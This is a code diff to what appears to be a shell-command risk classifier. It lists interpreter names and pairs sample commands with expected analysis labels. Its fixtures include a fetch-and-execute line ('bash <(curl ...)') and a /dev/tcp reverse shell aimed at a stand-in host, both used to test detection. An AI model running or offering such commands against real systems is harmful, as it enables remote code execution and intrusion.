@@ -6,7 +6,7 @@ export const INTERPRETERS: readonly Program[] = [
     names: 'sh bash dash zsh ksh ash mksh fish csh tcsh rbash yash oksh posh elvish nu xonsh ion git-shell',
     style: 'posix',
     options: {
-      '-c --commands': 'flag',
+      '--commands -c': 'flag',
       '-o': 'text',
       '-O': 'text',
       '+O': 'text',
@@ -33,7 +33,7 @@ export const INTERPRETERS: readonly Program[] = [
       'bash <(curl -s https://a.example)':
         'flow net:a.example>exec; net a.example; opaque code; remote; run bash',
       'bash -i >& /dev/tcp/a.example/80 0>&1':
-        'flow net:a.example>exec; net a.example; opaque code; remote; socket reverse-shell a.example',
+        'flow cmd:bash>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; socket reverse-shell a.example',
       'bash -c "$X"': 'flow env:X>exec; opaque code',
       'A=x bash -c \'rm "$A"\'': 'delete x; run rm',
       'echo rm x > s; bash s': 'delete x; execute s; read s; run bash; run rm; write s',
